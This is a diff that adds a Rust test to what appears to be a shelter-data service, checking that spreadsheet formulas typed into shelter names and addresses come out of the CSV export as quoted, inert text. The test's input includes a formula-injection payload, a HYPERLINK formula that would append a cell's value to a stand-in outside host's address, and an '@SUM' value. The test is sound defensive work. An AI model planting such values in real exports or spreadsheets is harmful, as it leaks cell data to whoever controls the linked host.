@@ -651,3 +651,27 @@ async fn libhxl_reads_every_dataset_and_its_sums_are_the_graphql_figures() {
         s["peopleInShelters"].as_i64().unwrap() * 1000
     );
 }
+
+#[tokio::test]
+async fn text_that_a_spreadsheet_would_run_as_a_formula_is_exported_inert() {
+    let app = spawn_app_with_demo().await;
+    let ministry = app.as_demo_ministry().await;
+    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Help\")";
+    ministry
+        .gql(
+            ops::OPEN_SHELTER,
+            json!({ "input": { "regionCode": "KZ-23", "name": formula, "address": "@SUM(1+1)",
+                               "capacity": 40, "idempotencyKey": "exports-formula" } }),
+        )
+        .await
+        .data();
+    let shelters = get(&app, "/exports/shelters.csv", None, &[]).await;
+    let names = shelters.column("#loc +name");
+    assert!(
+        names.contains(&format!("'{formula}")),
+        "the formula is a quoted text: {names:?}"
+    );
+    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");
+    let addresses = shelters.column("#loc +address");
+    assert!(addresses.contains(&"'@SUM(1+1)".to_owned()), "{addresses:?}");
+}
